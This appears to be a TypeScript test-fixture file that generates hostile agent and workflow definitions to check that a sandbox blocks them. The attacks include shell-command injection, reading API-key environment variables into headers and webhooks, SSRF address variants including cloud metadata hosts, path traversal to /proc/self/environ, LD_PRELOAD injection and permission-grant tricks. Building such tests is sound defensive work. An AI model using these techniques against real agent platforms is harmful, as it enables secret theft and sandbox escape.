import type { Canaries } from "./canaries.ts";

/** A definition that wants what it was not granted. */
export interface Attack {
  readonly name: string;
  readonly dialect: "sandcastle" | "uhlp" | "terminal" | "agents";
  readonly text: string;
  readonly input?: object;
  /** Of a file of agents: what is started. */
  readonly part?: string;
}

/** Every attack, each with a name of its own. */
export function attacks(canaries: Canaries): readonly Attack[] {
  const all = [
    ...commands(canaries),
    ...variables(canaries),
    ...addresses(canaries),
    ...files(canaries),
    ...foreign(),
    ...tricks(canaries),
  ];
  return all.map((attack, index) => ({ ...attack, name: `${index}-${attack.name}` }));
}

const json = (value: unknown) => JSON.stringify(value);

/** A Sandcastle file with these steps. Its texts are JSON, which is YAML. */
function sandcastle(name: string, steps: readonly object[], more: object = {}): Attack {
  return { name, dialect: "sandcastle", text: json({ name: "attack", ...more, steps }) };
}

function uhlp(name: string, steps: Readonly<Record<string, object>>, more: object = {}): Attack {
  const [startAt] = Object.keys(steps);
  return { name, dialect: "uhlp", text: json({ workflowId: "attack", startAt, ...more, steps }) };
}

function terminal(name: string, states: Readonly<Record<string, object>>, more: object = {}): Attack {
  const [initial] = Object.keys(states);
  return { name, dialect: "terminal", text: json({ name: "attack", initial_state: initial, ...more, states }) };
}

function agents(name: string, server: object, more: object = {}): Attack {
  const text = {
    llms: [{ name: "mock", provider: "mock", model: "mock:model.yaml" }],
    mcp_servers: [{ name: "s", ...server }],
    agents: [{ name: "A", llm_config_id: "mock", mcp_servers: ["s"], system_prompt: "Use the tool.", ...more }],
    linear_workflows: [{ name: "W", steps: ["A"] }],
  };
  return { name, dialect: "agents", text: json(text), part: "W", input: { message: "go" } };
}

/** The first format of files of agents. */
function clients(name: string, client: object): Attack {
  const text = {
    clients: [{ client_id: "s", ...client }],
    agents: [{ name: "A", client_ids: ["s"], model: "mock:model.yaml" }],
    workflows: [{ name: "W", steps: ["A"] }],
  };
  return { name, dialect: "agents", text: json(text), part: "W", input: { message: "go" } };
}

function commands(canaries: Canaries): readonly Attack[] {
  const programs = (mark: string): readonly (readonly [string, readonly string[]])[] => [
    ["bash", ["-c", `touch ${mark}`]],
    ["/bin/bash", ["-c", `touch ${mark}`]],
    ["sh", ["-c", `: > ${mark}`]],
    ["env", ["touch", mark]],
    ["touch", [mark]],
    ["/usr/bin/touch", [mark]],
    ["python3", ["-c", `open(${json(mark)}, "w")`]],
    [process.execPath, ["-e", `require("fs").writeFileSync(${json(mark)}, "")`]],
    ["node", ["-e", `require("fs").writeFileSync(${json(mark)}, "")`]],
    ["perl", ["-e", `open(F, ">", ${json(mark)})`]],
    ["awk", [`BEGIN { print > ${json(mark)} }`]],
    ["find", ["/", "-maxdepth", "0", "-exec", "touch", mark, ";"]],
  ];
  const servers = programs("").flatMap(([command], index) => {
    const at = (name: string) => {
      const mark = canaries.markOf(`${name}-${index}`);
      const [program, args] = programs(mark)[index] ?? ["", []];
      return { command: program, args };
    };
    return [
      agents(`agents-stdio-${command}`, { type: "mcp_server", transport_type: "stdio", ...at("stdio") }),
      clients(`clients-command-${command}`, at("clients")),
      sandcastle(`sandcastle-mcp-servers-${command}`, [{ id: "a", prompt: "go", tools: ["s.t"] }], {
        mcp_servers: { s: at("sandcastle") },
      }),
      uhlp(
        `uhlp-mcp-servers-${command}`,
        { a: { type: "mcp", target: { tool: "t", server: "s" } } },
        { mcp_servers: { s: at("uhlp") } },
      ),
    ];
  });
  const shells = programs("").map(([command], index) => {
    const mark = canaries.markOf(`shell-${index}`);
    const [program, args] = programs(mark)[index] ?? ["", []];
    return { command, shell: [program, ...args.map((arg) => `'${arg}'`)].join(" "), mark };
  });
  const terminals = shells.flatMap(({ command, shell, mark }) => [
    terminal(`terminal-${command}`, { a: { action: { tool: "open_terminal", params: { shell } } } }),
    terminal(
      `terminal-typed-${command}`,
      {
        a: {
          action: { tool: "open_terminal", params: { shell: "{shell}" } },
          transitions: [{ condition: { success: true }, next_state: "b" }],
        },
        b: { action: { tool: "send_input", params: { session_id: "{session_id}", input_text: `touch ${mark}\n` } } },
      },
      { variables: { shell: "bash --norc" } },
    ),
    sandcastle(`sandcastle-terminal-${command}`, [
      { id: "a", type: "terminal", tool: "open_terminal", params: { shell } },
    ]),
    uhlp(`uhlp-terminal-${command}`, {
      a: { type: "mcp", target: "open_terminal", params: { shell: `'${shell.replaceAll("'", "")}'` } },
    }),
  ]);
  const more = ["BASH_ENV", "LD_PRELOAD", "NODE_OPTIONS", "PYTHONSTARTUP", "PATH", "PROMPT_COMMAND"].map((name) =>
    terminal(`terminal-environment-${name}`, {
      a: { action: { tool: "open_terminal", params: { shell: "bash", environment: { [name]: canaries.file } } } },
    }),
  );
  const paths = ["server.py", "/bin/bash", "../x.js", canaries.file, "file:///bin/sh", "node_modules/.bin/x"].flatMap(
    (path) => [
      clients(`clients-path-${path}`, { server_path: path }),
      agents(`agents-path-${path}`, { server_path: path }),
    ],
  );
  const tools = ["core.state.runCommand", "core.shell.run", "core.system.exec", "bash", "run_command"].flatMap(
    (tool) => [
      sandcastle(`sandcastle-tool-${tool}`, [
        { id: "a", type: "mcp", tool, params: { command: "touch", args: [canaries.markOf(`tool-${tool}`)] } },
      ]),
      uhlp(`uhlp-tool-${tool}`, {
        a: { type: "mcp", target: tool, params: { command: `'touch ${canaries.markOf(`u-${tool}`)}'` } },
      }),
    ],
  );
  return [...servers, ...terminals, ...more, ...paths, ...tools];
}

const VARIABLE = "PAWL_CANARY";

function variables({ port }: Canaries): readonly Attack[] {
  const names = [VARIABLE, "ANTHROPIC_API_KEY", "SANDSTORM_API_KEY"];
  const texts = names.flatMap((name) => [
    `\${${name}}`,
    `$${name}`,
    `{env.${name}}`,
    `{{ env.${name} }}`,
    `{{ ${name} }}`,
    `\${${name}:-x}`,
    `{env:${name}}`,
    `{{env.${name}}}`,
    `%${name}%`,
  ]);
  return [
    ...texts.flatMap((text, index) => [
      sandcastle(`sandcastle-prompt-${index}`, [{ id: "a", prompt: text }], { env: { allow: names } }),
      sandcastle(`sandcastle-http-header-${index}`, [
        { id: "a", type: "http", url: `http://127.0.0.1:${port}/`, headers: { "x-secret": text } },
      ]),
      uhlp(`uhlp-http-${index}`, {
        a: {
          type: "control",
          subtype: "formatResponse",
          resultType: "generic",
          data: { told: `'${text}'`, tried: `env.${VARIABLE}` },
        },
      }),
      terminal(
        `terminal-variable-${index}`,
        {
          a: { action: { tool: "list_terminal_sessions", params: {} }, transitions: [] },
        },
        { description: text, env: { allow: names }, variables: { stolen: text } },
      ),
      agents(`agents-header-${index}`, { url: `http://127.0.0.1:${port}/mcp`, headers: { authorization: text } }),
      agents(`agents-prompt-${index}`, { url: "http://mcp.invalid/mcp" }, { system_prompt: text, mcp_servers: [] }),
    ]),
    ...names.flatMap((name) => [
      sandcastle(`sandstorm-${name}`, [{ id: "a", prompt: "go" }], {
        sandstorm_url: `http://127.0.0.1:${port}/\${${name}}`,
      }),
      sandcastle(`sandstorm-host-${name}`, [{ id: "a", prompt: "go" }], {
        sandstorm_url: `http://\${${name}}.invalid/`,
      }),
      sandcastle(`webhook-${name}`, [{ id: "a", prompt: "go" }], {
        on_complete: { webhook: `http://127.0.0.1:${port}/\${${name}}` },
        on_failure: { webhook: `http://127.0.0.1:${port}/\${${name}}` },
      }),
      sandcastle(`env-allow-${name}`, [{ id: "a", prompt: `{env.${name}}` }], { env: { allow: [name, "*"] } }),
    ]),
  ];
}

/** Ways to write an address that must not be asked. */
function privateHosts(): readonly string[] {
  return [
    ...["127.0.0.1", "localhost", "LOCALHOST", "localhost.", "127.1", "127.0.1", "0", "0.0.0.0", "2130706433"],
    ...["0x7f000001", "0x7f.1", "0177.0.0.1", "017700000001", "127.000.000.001", "127.0.0.1.", "①②⑦.⓪.⓪.①"],
    ...["[::1]", "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]"],
    ...["[2002:7f00:1::]", "localhost.localdomain", "ip6-localhost", "169.254.169.254", "[fd00:ec2::254]"],
    ...["metadata.google.internal", "10.0.0.1", "192.168.0.1", "172.16.0.1", "100.64.0.1", "a@127.0.0.1"],
  ];
}

function addresses({ port }: Canaries): readonly Attack[] {
  const urls = privateHosts().map((host) => `http://${host}:${port}/`);
  return urls.flatMap((url, index) => [
    sandcastle(`http-${index}`, [{ id: "a", type: "http", url, retry: { max_attempts: 1 } }]),
    sandcastle(`sandstorm-url-${index}`, [{ id: "a", prompt: "go", retry: { max_attempts: 1 } }], {
      sandstorm_url: url,
    }),
    sandcastle(`callback-${index}`, [{ id: "a", type: "llm", prompt: "hi" }], { on_complete: { webhook: url } }),
    agents(`mcp-url-${index}`, { url: `${url}mcp` }),
    agents(`mcp-sse-${index}`, { type: "sse", url: `${url}sse` }),
    {
      ...sandcastle(`http-of-input-${index}`, [
        { id: "a", type: "http", url: "{input.url}", retry: { max_attempts: 1 } },
      ]),
      input: { url },
    },
  ]);
}

function files({ file }: Canaries): readonly Attack[] {
  const paths = [
    file,
    "../canary.txt",
    "../../canary.txt",
    "..%2fcanary.txt",
    "./../canary.txt",
    "x/../../canary.txt",
    `file://${file}`,
    "/proc/self/environ",
    "/proc/1/environ",
    "../app/../canary.txt",
  ];
  return paths.flatMap((path, index) => [
    sandcastle(`storage-${index}`, [{ id: "a", prompt: `{storage.${path}}` }]),
    sandcastle(`csv-${index}`, [
      { id: "a", prompt: "go", csv_output: { directory: "..", filename: path, mode: "append" } },
    ]),
    sandcastle(`storage-path-${index}`, [{ id: "a", prompt: "go" }], { on_complete: { storage_path: path } }),
    sandcastle(`script-${index}`, [{ id: "a", type: "code", script: `${path}#main` }]),
    sandcastle(`template-${index}`, [{ id: "a", type: "llm", prompt_template: path }]),
    sandcastle(`sub-${index}`, [{ id: "a", type: "sub_workflow", sub_workflow: { workflow: path } }]),
    uhlp(`uhlp-script-${index}`, { a: { type: "jit", target: `${path}#main` } }),
    uhlp(`uhlp-template-${index}`, { a: { type: "llm", target: { promptTemplate: path } } }),
    uhlp(`uhlp-definition-${index}`, {
      a: { type: "mcp", target: "core.state.getDefinitionFileContent", params: { file_path: `'${path}'` } },
    }),
    uhlp(`uhlp-file-${index}`, { a: { type: "mcp", target: "core.files.read", params: { path: `'${path}'` } } }),
    terminal(`directory-${index}`, {
      a: { action: { tool: "open_terminal", params: { shell: "bash", working_directory: path } } },
    }),
  ]);
}

function foreign(): readonly Attack[] {
  const names = ["alices", "alice/alices", "tenants/alice/alices", "../alice/alices", "alices@1", "agents.json#alices"];
  return names.flatMap((workflow, index) => [
    sandcastle(`foreign-sub-${index}`, [{ id: "a", type: "sub_workflow", sub_workflow: { workflow } }]),
    uhlp(`foreign-call-${index}`, {
      a: { type: "control", subtype: "callWorkflow", workflowId: workflow },
    }),
    terminal(`foreign-run-${index}`, {
      a: { action: { tool: "run_workflow", params: { workflow_name: workflow } } },
    }),
    sandcastle(`foreign-storage-${index}`, [{ id: "a", prompt: `{storage.${workflow}/secret.txt}` }]),
  ]);
}

/** What says one thing where it is checked and another where it is used. */
function tricks(canaries: Canaries): readonly Attack[] {
  const { port } = canaries;
  const mark = canaries.markOf("tricks");
  const server = { command: "touch", args: [mark] };
  return [
    agents("grant-in-text", server, { grant: "everything" }),
    sandcastle(
      "grant-key",
      [{ id: "a", type: "terminal", tool: "open_terminal", params: { shell: `touch ${mark}` } }],
      {
        grant: "everything",
        settings: { grant: "everything" },
      },
    ),
    sandcastle("tool-of-input", [{ id: "a", type: "mcp", tool: "{input.tool}", params: { shell: `touch ${mark}` } }]),
    sandcastle("sandstorm-of-input", [{ id: "a", prompt: "go" }], { sandstorm_url: `http://{input.host}:${port}/` }),
    {
      ...sandcastle("nested-text", [
        {
          id: "a",
          type: "sub_workflow",
          sub_workflow: {
            workflow: json({
              name: "x",
              steps: [{ id: "a", type: "terminal", tool: "open_terminal", params: { shell: `touch ${mark}` } }],
            }),
          },
        },
      ]),
    },
    terminal("nested-definition", {
      a: {
        action: {
          tool: "run_workflow",
          params: {
            workflow_definition: {
              name: "inner",
              initial_state: "a",
              states: { a: { action: { tool: "open_terminal", params: { shell: `touch ${mark}` } } } },
            },
          },
        },
      },
    }),
    sandcastle("proto", [
      { id: "__proto__", prompt: "{input.__proto__.constructor}" },
      { id: "constructor", prompt: "{steps.__proto__.output}" },
    ]),
    sandcastle("many-redirects", [
      { id: "a", type: "http", url: `https://0.0.0.0:${port}/`, headers: { host: "example.com" } },
    ]),
  ];
}
